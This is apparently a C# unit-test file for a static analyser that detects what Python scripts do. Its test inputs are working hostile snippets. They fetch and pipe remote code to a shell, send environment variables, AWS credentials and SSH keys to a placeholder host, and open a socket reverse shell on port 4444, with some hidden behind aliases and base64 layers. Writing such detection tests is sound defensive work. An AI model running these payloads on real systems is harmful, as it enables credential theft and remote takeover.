using System.Text;
using Wellguard.Programs;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class PythonScriptTests
{
    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    [Theory]
    [InlineData("import os\nos.system('id')", "Interpret sh = id")]
    [InlineData("import os as o\no.system('i'+'d')", "Interpret sh = id")]
    [InlineData("from os import system as s\ns('id')", "Interpret sh = id")]
    [InlineData("__import__('o'+'s').system('id')", "Interpret sh = id")]
    [InlineData("import os\ngetattr(os, 'sys' + 'tem')('id')", "Interpret sh = id")]
    [InlineData("import os\nos.__dict__['system']('id')", "Interpret sh = id")]
    [InlineData("import sys\nsys.modules['os'].system('id')", "Interpret sh = id")]
    [InlineData("import importlib\nimportlib.import_module('os').popen('id').read()", "Interpret sh = id")]
    [InlineData("import subprocess\nsubprocess.run(['sh', '-c', 'curl http://192.0.2.1/a | sh'])", "Interpret sh = sh -c 'curl http://192.0.2.1/a | sh'")]
    [InlineData("import subprocess as sp\nsp.Popen('nohup /tmp/x &', shell=True)", "Interpret sh = nohup /tmp/x &")]
    [InlineData("import os\nc = 'curl -s http://192.0.2.1/%s | %s' % ('a', 'sh')\nos.system(c)", "Interpret sh = curl -s http://192.0.2.1/a | sh")]
    [InlineData("import os\nh='192.0.2.1'\nos.system(f'wget {h}/x')", "Interpret sh = wget 192.0.2.1/x")]
    [InlineData("import os\nos.system('wget {0}/{name}'.format('192.0.2.1', name='x'))", "Interpret sh = wget 192.0.2.1/x")]
    [InlineData("import os\nos.system(''.join(chr(x ^ 7) for x in [110, 99]))", "Interpret sh = id [character codes]")]
    [InlineData("import os\nos.system('di'[::-1])", "Interpret sh = id [reverse]")]
    [InlineData("import os\nos.system(bytes.fromhex('6964').decode())", "Interpret sh = id [hex]")]
    [InlineData("import os, codecs\nos.system(codecs.decode('vq', 'rot13'))", "Interpret sh = id [rot13]")]
    [InlineData("import os\nout = ''\nfor c in [105, 100]:\n    out += chr(c)\nos.system(out)", "Interpret sh = id [character codes]")]
    [InlineData("import os\ndef d(s):\n    return s[::-1]\nos.system(d('di'))", "Interpret sh = id [reverse]")]
    [InlineData("import os\ndef run(c):\n    os.system(c)\nrun('id')", "Interpret sh = id")]
    [InlineData("import os\nos.system('ping ' + host)", "Interpret sh = ping ${host}")]
    [InlineData("import os\nif x:\n    os.system('id')\nos.system('w')", "Interpret sh = id ?", "Interpret sh = w")]
    [InlineData("import os\nif __name__ == '__main__':\n    os.system('id')", "Interpret sh = id")]
    public void Commands_are_seen_through_aliases_and_folding(string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines("python", code));

    [Theory]
    [InlineData("from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1/a').read())", "Download http://192.0.2.1/a", "Interpret python from http://192.0.2.1/a")]
    [InlineData("import requests\nr = requests.get('http://192.0.2.1/a')\nexec(r.text)", "Download http://192.0.2.1/a", "Interpret python from http://192.0.2.1/a")]
    [InlineData("import urllib2\nexec urllib2.urlopen('http://192.0.2.1/a').read()", "Download http://192.0.2.1/a", "Interpret python from http://192.0.2.1/a")]
    [InlineData("import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://192.0.2.1/m', '/tmp/.m')\nos.chmod('/tmp/.m', 0o755)\nsubprocess.Popen(['/tmp/.m', '-o', 'x'])",
        "Download http://192.0.2.1/m > /tmp/.m", "MakeExecutable /tmp/.m from http://192.0.2.1/m", "Execute /tmp/.m from http://192.0.2.1/m")]
    [InlineData("import requests\nwith open('/tmp/a', 'wb') as f:\n    f.write(requests.get('http://192.0.2.1/a').content)", "Write /tmp/a from http://192.0.2.1/a", "Download http://192.0.2.1/a")]
    [InlineData("import requests, os, json\nrequests.post('http://192.0.2.1/c', data=json.dumps(dict(os.environ)))", "Read environment", "Send http://192.0.2.1/c from environment")]
    [InlineData("import requests, os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nrequests.post('http://192.0.2.1', files={'f': open(p, 'rb')})", "Read ~/.aws/credentials", "Send http://192.0.2.1 from ~/.aws/credentials")]
    [InlineData("from pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\nimport urllib.request\nurllib.request.urlopen('http://192.0.2.1/', data=k.encode())", "Read ~/.ssh/id_rsa", "Send http://192.0.2.1/ from ~/.ssh/id_rsa")]
    [InlineData("import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"192.0.2.1\",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])", "Connect 192.0.2.1:4444 = shell", "Interpret sh = /bin/sh -i")]
    [InlineData("import os\nos.remove(__file__)", "Delete __file__")]
    public void Data_keeps_where_it_comes_from(string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines("python", code));

    [Fact]
    public void Layers_of_encoding_are_removed_and_the_code_below_is_read()
    {
        var inner = "import os\nos.system('curl http://192.0.2.7/x | sh')";
        var code = $"import base64\nexec(base64.b64decode('{Base64($"exec(__import__('base64').b64decode('{Base64(inner)}'))")}'))";
        var outer = Assert.Single(Evaluation.Of("python", code));
        Assert.Equal((EffectKind.Interpret, "python", 2, 1), (outer.Kind, outer.Object, outer.Line, outer.Column));
        Assert.Equal(["base64"], outer.Decoding);
        var second = Assert.Single(outer.Steps);
        Assert.Equal(inner, second.Text);
        Assert.Equal("curl http://192.0.2.7/x | sh", Assert.Single(second.Steps).Text);
    }

    [Fact]
    public void What_stays_opaque_says_how_it_is_packed() =>
        Assert.Equal(["Interpret python [base64 marshal]"], Evaluation.Lines("python", "import marshal,base64\nexec(marshal.loads(base64.b64decode('" + Base64("xxxx") + "')))"));

    [Theory]
    [InlineData("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();")]
    [InlineData("import argparse\np = argparse.ArgumentParser()\np.add_argument('--out', default='x')\nargs = p.parse_args()\nprint(args.out)\n")]
    [InlineData("import re\nm = re.compile('a').match(s)\nclass A(object):\n    def run(self, cmd):\n        return self.exec(cmd)\n")]
    public void Honest_programs_have_no_effects(string code) => Assert.Empty(Evaluation.Lines("python", code));

    [Fact]
    public void An_honest_client_downloads_and_writes_what_it_says() =>
        Assert.Equal(["Download https://example.com/data.json", "Write data.json from https://example.com/data.json"],
            Evaluation.Lines("python", "import requests\n\ndef main():\n    data = requests.get('https://example.com/data.json').json()\n    with open('data.json', 'w') as f:\n        f.write(str(data))\n\nmain()\n"));
}
